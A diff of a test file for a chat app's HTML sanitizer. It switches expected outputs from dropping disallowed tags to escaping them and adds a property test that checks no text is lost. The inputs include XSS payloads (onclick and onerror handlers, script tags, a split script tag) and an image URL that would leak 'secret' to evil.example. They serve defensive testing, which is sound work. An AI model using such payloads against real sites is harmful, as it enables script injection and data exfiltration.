@@ -1,5 +1,6 @@
 import fc from "fast-check";
 import { expect, test } from "vitest";
+import { ELEMENTS } from "../../src/html/elements.ts";
 import { HtmlSanitizer } from "../../src/html/sanitizer.ts";
 import { treeOf } from "./tree-of.ts";
 
@@ -10,15 +11,22 @@ function sanitize(...chunks: string[]): string {
 
 test.each([
   ["plain text", "plain text"],
-  ["1 < 2 & 3 > 2, a<b", "1 &lt; 2 &amp; 3 &gt; 2, a"],
+  ["1 < 2 & 3 > 2, a<b", "1 &lt; 2 &amp; 3 &gt; 2, a&lt;b"],
+  ["Choose n<m. Never delete it.", "Choose n&lt;m. Never delete it."],
+  ["List<String>, Map<I, S>, Set<S>", "List&lt;String&gt;, Map&lt;I, S&gt;, Set&lt;S&gt;"],
+  [
+    "<your-api-key> Ada <ada@example.com> <b@c.example>",
+    "&lt;your-api-key&gt; Ada &lt;ada@example.com&gt; &lt;b@c.example&gt;",
+  ],
+  ["if a <b and c> d, a<b>c</b x></b>", "if a &lt;b and c&gt; d, a<b>c&lt;/b x&gt;</b>"],
+  ["?a=1&copy=2&lt=3 &copy; R&D", "?a=1&amp;copy=2&amp;lt=3 © R&amp;D"],
   ["<p>One<p>Two", "<p>One</p><p>Two</p>"],
-  ["<P CLASS=x onclick=alert(1)>x</P>", "<p>x</p>"],
+  ["<p CLASS=x onclick=alert(1)>x</p>", "<p>x</p>"],
   ["<b>x<i>y</b>z</i>", "<b>x<i>y</i></b>z"],
-  ["<div><span>x</span></div>", "x"],
-  ["a<script>alert('<b>')</script>b", "ab"],
-  ["a<style>p{}</style>b<!-- c -->d<?e?>f<!doctype html>g", "abdfg"],
-  ["<img src=x onerror=alert(1)>x<svg onload=alert(1)><circle/></svg>", "x"],
-  ['<iframe src="https://a.example"></iframe><object data=x>y</object>', "y"],
+  ["<div>x</div>", "&lt;div&gt;x&lt;/div&gt;"],
+  ["a<script>alert('<b>')</script>b", "a&lt;script&gt;alert('<b>')&lt;/script&gt;b</b>"],
+  ["b<!-- c -->d<?e?>f<!doctype html>g", "b&lt;!-- c --&gt;d&lt;?e?&gt;f&lt;!doctype html&gt;g"],
+  ["<img src=x onerror=alert(1)>x<svg/>", "&lt;img src=x onerror=alert(1)&gt;x&lt;svg/&gt;"],
   ["<ul><li>1<li>2</ul>3", "<ul><li>1</li><li>2</li></ul>3"],
   ["<ul><li>1<ul><li>2</ul><li>3</ul>", "<ul><li>1<ul><li>2</li></ul></li><li>3</li></ul>"],
   ["<li>x</li><td>y</td>", "xy"],
@@ -27,9 +35,10 @@ test.each([
   ["<h1>a<h2>b</h2>c<hr>d<br/>e", "<h1>a</h1><h2>b</h2>c<hr>d<br>e"],
   ["<p>a<table><tr><td><p>b</p></b></table>", "<p>a</p><table><tbody><tr><td><p>b</p></td></tr></tbody></table>"],
   ["&lt;script&gt;&amp;&#60;b&#x3e;&eacute;&nosuch;", "&lt;script&gt;&amp;&lt;b&gt;é&amp;nosuch;"],
-  ["<scr<script>ipt>alert(1)</script>", "ipt&gt;alert(1)"],
+  ["<scr<script>ipt>", "&lt;scr&lt;script&gt;ipt&gt;"],
   ["x\u0000\u0007y&#0;z\ud800", "xy\ufffdz\ufffd"],
-  ["cut off <stro", "cut off "],
+  ["cut off <stro", "cut off &lt;stro"],
+  ['cut off <a href="https://a.example/?a&b', "cut off &lt;a href=&quot;https://a.example/?a&amp;b"],
 ])("[CHAT-14] %s becomes %s", (input, html) => {
   expect(sanitize(input)).toBe(html);
 });
@@ -37,7 +46,7 @@ test.each([
 const LINK = 'rel="noopener nofollow"';
 test.each([
   ['<a href="https://a.example/?q=1&amp;r=2">x</a>', `<a href="https://a.example/?q=1&amp;r=2" ${LINK}>x</a>`],
-  ["<A HREF=http://a.example TARGET=_blank>x", `<a href="http://a.example/" ${LINK}>x</a>`],
+  ["<a HREF=http://a.example TARGET=_blank>x", `<a href="http://a.example/" ${LINK}>x</a>`],
   ["<a href='mailto:a@b.example'>x</a>", `<a href="mailto:a@b.example" ${LINK}>x</a>`],
   ['<a href="https://a.example/&quot;onclick=x">x</a>', `<a href="https://a.example/%22onclick=x" ${LINK}>x</a>`],
   ['<a href="https://a.example" href="javascript:x">x</a>', `<a href="https://a.example/" ${LINK}>x</a>`],
@@ -58,7 +67,7 @@ test.each([
 
 test("[CHAT-14] an image that would send the conversation elsewhere is not loaded", () => {
   const html = sanitize('<img src="https://evil.example/?q=secret"><p background="https://evil.example/?q=secret">x');
-  expect(html).toBe("<p>x</p>");
+  expect(html).toBe("&lt;img src=&quot;https://evil.example/?q=secret&quot;&gt;<p>x</p>");
 });
 
 test("[CHAT-14] what never ends does not hide the rest of an answer", () => {
@@ -112,6 +121,39 @@ test("[CHAT-14] [CHAT-16] the output does not depend on the cuts when tags are t
     const chunks = text.match(new RegExp(`.{1,${size}}`, "g")) ?? [];
     expect(sanitize(...chunks)).toBe(sanitize(text));
   }
+});
+
+const ALLOWED = [...ELEMENTS.keys()].join("|");
+const TAGS = new RegExp(`<(?:${ALLOWED})\\s*/?>|</(?:${ALLOWED})\\s*>`, "g");
+const ENTITIES = /&(?:lt|gt|amp|quot);/g;
+const words = fc.string({ unit: fc.constantFrom(..."abipxLS019 <<>/.,@;!?-"), maxLength: 30 });
+
+test("[CHAT-14] [CHAT-16] every letter outside of allowed tags is shown, wherever the input is cut", () => {
+  const lettersOf = (text: string) => text.replace(/\W/g, "");
+  fc.assert(
+    fc.property(
+      fc.array(
+        fc.oneof(
+          words,
+          tagName.map((name) => `<${name}>`),
+        ),
+        { maxLength: 20 },
+      ),
+      (pieces) => {
+        const shown = lettersOf(
+          sanitize(...pieces)
+            .replace(TAGS, "")
+            .replace(ENTITIES, ""),
+        );
+        let at = 0;
+        for (const letter of lettersOf(pieces.join("").replace(TAGS, ""))) {
+          at = shown.indexOf(letter, at) + 1;
+          expect(at).toBeGreaterThan(0);
+        }
+      },
+    ),
+    { numRuns: 5_000 },
+  );
 });
 
 test("[CHAT-14] browsers read exactly the allowed tree from the output", () => {
